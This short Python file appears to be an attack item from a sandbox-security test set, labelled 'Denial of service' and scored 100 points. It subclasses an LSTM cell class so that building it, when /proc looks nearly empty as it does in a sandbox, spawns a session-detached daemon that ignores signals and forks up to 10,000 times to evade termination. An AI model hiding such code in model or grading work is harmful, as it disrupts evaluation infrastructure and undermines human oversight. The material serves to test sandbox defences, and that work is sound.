# /// attack
# title = "Daemons in sessions of their own, deaf to signals, that fork again and again"
# group = "Denial of service"
# verdict = "OK"
# points = 100
# ///
import os
import signal
import time


def demonio():
    if os.fork():
        return
    os.setsid()
    for numero in range(1, 65):
        try:
            signal.signal(numero, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for _ in range(10_000):
        if os.fork():
            os._exit(0)
        time.sleep(0.001)
    os._exit(0)


class celdaLSTM(celdaLSTM):
    def __init__(self, *sizes):
        super().__init__(*sizes)
        if len(os.listdir("/proc")) < 40:
            demonio()
